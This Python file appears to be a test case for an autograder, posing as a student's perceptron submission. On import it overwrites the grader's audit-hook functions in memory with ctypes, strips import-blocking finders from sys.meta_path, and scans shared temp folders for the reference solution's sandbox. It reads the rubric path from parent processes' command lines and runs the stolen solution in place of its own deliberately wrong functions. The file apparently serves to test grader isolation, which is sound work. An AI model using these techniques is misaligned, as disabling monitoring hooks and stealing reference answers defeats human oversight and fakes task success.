"""Perceptrons taken from the reference's own sandbox copy, with the audit hook switched off (ctypes).

Process mode shares the host's /tmp: the reference's sandbox folder sits beside the student's. This
case looks for it everywhere it could be (every grader-sandbox-* folder in the temp folders and under the
ancestors' TMPDIR, at any depth), and also reads the reference's input batches and the rubric named on
the grader's command line. Its own functions are wrong: a perceptron point means it read the solution.
"""

import gc
import glob
import os
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=procmode_reference_copy"
NAMES = ("predict", "and_gate", "or_gate", "train_perceptron", "xor_network")
LOG = []  # what worked, printed for the instructor's student_output.txt


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids



def _use(source, where):
    """The perceptron functions of a borrowed solution's source (LOG says where it came from)."""
    LOG.append(f"got the solution from {where}")
    namespace = {"__name__": "borrowed"}
    exec(compile(source, "borrowed_perceptron.py", "exec"), namespace)
    return {n: namespace[n] for n in NAMES if n in namespace}


def _disarm():
    try:
        LOG.append(f"disarmed {_disarm_audit_hooks()} audit hook(s)")
    except Exception as exc:
        LOG.append(f"disarm: {type(exc).__name__}: {exc}")


def _rubric_paths():
    """The --rubric argument of every ancestor's command line."""
    out = []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except OSError:
            continue
        out += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--rubric"]
    return out


def _attack():
    _disarm()
    roots = {"/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")}
    boxes = sorted({b for r in roots for b in glob.glob(os.path.join(r, "grader-sandbox-*"))})
    LOG.append(f"{len(boxes)} sandbox folders seen")
    found = None
    for box in boxes:
        for path in glob.glob(os.path.join(box, "**", "*.py"), recursive=True) + glob.glob(os.path.join(box, "**", "*.npz"), recursive=True):
            try:
                with open(path, "rb") as f:
                    data = f.read()
            except OSError as exc:
                LOG.append(f"refused {path}: {type(exc).__name__}")
                continue
            LOG.append(f"READ {path}")
            text = data.decode("utf-8", "replace")
            if path.endswith("perceptron.py") and "def train_perceptron" in text and "np.zeros(np.shape(X)[1]), 0.0, True" not in text:
                found = found or (text, path)
    for rubric in _rubric_paths():
        try:
            with open(rubric) as f:
                LOG.append(f"READ-RUBRIC {rubric}: {len(f.read())} characters")
        except OSError as exc:
            LOG.append(f"refused rubric {rubric}: {type(exc).__name__}")
    print(f"{TAG}: " + "; ".join(LOG[-40:]), flush=True)
    return _use(*found) if found else {}


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}

_borrowed = _attack()
globals().update(_borrowed)
